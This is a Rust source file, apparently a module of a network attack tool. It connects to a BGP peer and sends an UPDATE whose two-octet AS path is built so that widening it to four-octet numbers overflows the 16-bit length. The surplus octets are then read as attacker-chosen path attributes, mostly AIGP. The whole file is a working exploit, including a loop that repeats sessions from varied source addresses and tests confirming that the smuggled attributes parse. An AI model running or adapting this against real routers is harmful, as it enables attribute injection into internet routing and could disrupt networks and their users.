//! BGP paths of two-octet AS numbers (RFC 6793 §4.2.3) so long that the same path with four octets
//! has more than 65,535: a length that is cut then leaves the rest of the path to be read as path
//! attributes of the sender's choice.
//!
//! The path is made so that the cut length is that of its first segment, and that the rest reads
//! as attributes: an unknown one of no octets, then some of type AIGP, end to end.

use crate::sockets::{Numbers, Pace, SocketAttack};
use driver::{SocketOptions, tcp};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::Duration;

/// The AS of the attacker, and where its one route goes.
const ASN: u16 = 64_999;
const ROUTE: [u8; 3] = [16, 10, 66];
/// What the path has when it is widened: the first segment and 65,536 octets more.
const FIRST_SEGMENT: usize = 6;
const WIDENED: usize = FIRST_SEGMENT + 65_536;
/// AS numbers of a whole segment.
const SEGMENT_MAX: usize = 255;
/// A type that internal peers are not sent (RFC 7311), and its longest value.
const AIGP: u16 = 26;
const VALUE_MAX: usize = 255;
/// Type and count of a segment; type and length of an attribute behind its flags.
const SEGMENT_HEAD: usize = 2;
const ATTRIBUTE_HEAD: usize = 3;
const AS_SEQUENCE: u8 = 2;
/// Message types.
const OPEN: u8 = 1;
const UPDATE: u8 = 2;
const KEEPALIVE: u8 = 4;
const HEADER: usize = 19;
/// Time for an answer.
const PATIENCE: Duration = Duration::from_millis(500);
/// How long the session is held after its route, for the target to do what it does.
const HELD: Duration = Duration::from_millis(300);

/// Counts of AS numbers of the segments behind the first: 65,536 octets with four each.
fn segments() -> Vec<usize> {
    let rest = WIDENED - FIRST_SEGMENT;
    let mut count = rest.div_ceil(SEGMENT_HEAD + 4 * SEGMENT_MAX);
    while !(rest - SEGMENT_HEAD * count).is_multiple_of(4) {
        count += 1;
    }
    let mut left = (rest - SEGMENT_HEAD * count) / 4;
    let mut all = Vec::with_capacity(count);
    for after in (0..count).rev() {
        let size = (left - after).min(SEGMENT_MAX);
        left -= size;
        all.push(size);
    }
    all
}

/// AS numbers by segment, so that the widened octets behind the first read as attributes.
fn numbers() -> Vec<Vec<u16>> {
    let mut all: Vec<Vec<u16>> = segments().into_iter().map(|size| vec![ASN; size]).collect();
    // Offsets in the widened path at which an AS number begins, and which one it is.
    let mut begins = Vec::new();
    let mut at = FIRST_SEGMENT;
    for (segment, size) in all.iter().map(Vec::len).enumerate() {
        at += SEGMENT_HEAD;
        begins.extend((0..size).map(|place| (at + 4 * place, segment, place)));
        at += 4 * size;
    }
    // The first segment head and a zero: an attribute of no octets. The next begins a zero later.
    let mut index = 0;
    while let Some(&(at, segment, place)) = begins.get(index) {
        let value_at = at + 1 + ATTRIBUTE_HEAD;
        let reach = value_at + VALUE_MAX;
        let (length, next) = if reach >= WIDENED {
            (WIDENED - value_at, begins.len())
        } else {
            let next = begins.partition_point(|(begin, ..)| *begin < reach) - 1;
            (begins[next].0 + 1 - value_at, next)
        };
        all[segment][place] = AIGP << 8 | u16::try_from(length).unwrap_or(0);
        index = next;
    }
    all
}

/// The path with two octets a number.
fn path() -> Vec<u8> {
    let mut out = vec![AS_SEQUENCE, 1];
    out.extend_from_slice(&ASN.to_be_bytes());
    for segment in numbers() {
        out.extend_from_slice(&[AS_SEQUENCE, u8::try_from(segment.len()).unwrap_or(u8::MAX)]);
        segment.iter().for_each(|number| out.extend_from_slice(&number.to_be_bytes()));
    }
    out
}

fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![0xff; 16];
    // The longest is half as long as a length allows.
    let length = u16::try_from(HEADER + body.len()).unwrap_or(u16::MAX);
    out.extend_from_slice(&length.to_be_bytes());
    out.push(kind);
    out.extend_from_slice(body);
    out
}

/// An OPEN that speaks IPv4 and long messages (RFC 8654), and not four-octet AS numbers.
fn open(source: Ipv4Addr) -> Vec<u8> {
    let capabilities = [1, 4, 0, 1, 0, 1, 6, 0];
    let mut body = vec![4];
    body.extend_from_slice(&ASN.to_be_bytes());
    body.extend_from_slice(&90u16.to_be_bytes());
    body.extend_from_slice(&source.octets());
    body.extend_from_slice(&[10, 2, 8]);
    body.extend_from_slice(&capabilities);
    message(OPEN, &body)
}

fn update(source: Ipv4Addr) -> Vec<u8> {
    let path = path();
    let mut attributes = vec![0x40, 1, 1, 0, 0x50, 2];
    attributes.extend_from_slice(&u16::try_from(path.len()).unwrap_or(u16::MAX).to_be_bytes());
    attributes.extend_from_slice(&path);
    attributes.extend_from_slice(&[0x40, 3, 4]);
    attributes.extend_from_slice(&source.octets());
    let mut body = vec![0, 0];
    let length = u16::try_from(attributes.len()).unwrap_or(u16::MAX);
    body.extend_from_slice(&length.to_be_bytes());
    body.extend_from_slice(&attributes);
    body.extend_from_slice(&ROUTE);
    message(UPDATE, &body)
}

/// Reads one message; its type.
fn read(stream: &mut TcpStream) -> std::io::Result<u8> {
    let mut head = [0; HEADER];
    stream.read_exact(&mut head)?;
    let length = usize::from(u16::from_be_bytes([head[16], head[17]]));
    stream.read_exact(&mut vec![0; length.saturating_sub(HEADER)])?;
    Ok(head[18])
}

/// One session with its route.
fn session(source: Ipv4Addr, target: SocketAddr) -> std::io::Result<usize> {
    let from = SocketAddr::from((source, 0));
    let mut stream = tcp::connect(Some(from), target, &SocketOptions::default(), |_| Ok(()))?;
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    stream.write_all(&open(source))?;
    while read(&mut stream)? != OPEN {}
    stream.write_all(&message(KEEPALIVE, &[]))?;
    while read(&mut stream)? != KEEPALIVE {}
    let update = update(source);
    stream.write_all(&update)?;
    std::thread::sleep(HELD);
    Ok(update.len())
}

pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let mut random = Numbers::new(6);
    while let Some(due) = pace.due() {
        for _ in 0..due.min(1) {
            let source = attack.sources.pick(random.next());
            // One that the target ends, or does not take yet, is begun again.
            if let Ok(octets) = session(source, attack.target.into()) {
                pace.sent(octets);
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use bgp::codec::{Framing, Open, frame};

    /// The path as a speaker of four-octet numbers writes it.
    fn widened() -> Vec<u8> {
        let (path, mut out) = (path(), Vec::new());
        let mut rest = &path[..];
        while let [kind, count, after @ ..] = rest {
            let (numbers, next) = after.split_at(2 * usize::from(*count));
            out.extend([*kind, *count]);
            numbers.chunks(2).for_each(|number| out.extend([0, 0, number[0], number[1]]));
            rest = next;
        }
        out
    }

    #[test]
    fn a_cut_length_leaves_a_short_path_and_whole_attributes() {
        let widened = widened();
        assert_eq!(widened.len(), WIDENED);
        assert_eq!(widened.len() & 0xffff, FIRST_SEGMENT);
        let mut rest = &widened[FIRST_SEGMENT..];
        let mut kinds = Vec::new();
        while let [_, kind, length, after @ ..] = rest {
            kinds.push(*kind);
            rest = after.get(usize::from(*length)..).expect("no attribute is cut off");
        }
        assert!(rest.is_empty());
        assert_eq!(kinds[0], 255);
        assert!(kinds.len() > 200 && kinds[1..].iter().all(|kind| *kind == 26));
    }

    #[test]
    fn the_messages_are_whole_and_offer_long_ones_without_four_octet_numbers() {
        let source = Ipv4Addr::new(127, 66, 0, 1);
        let open = open(source);
        assert!(matches!(frame(&open, 4_096), Framing::Message(..)));
        let read = Open::read(&open).unwrap();
        assert!(read.offer.extended_message && !read.offer.four_octet_as);
        let update = update(source);
        assert!(matches!(frame(&update, 65_535), Framing::Message(..)), "{}", update.len());
        assert!(update.len() < 33_000);
    }
}
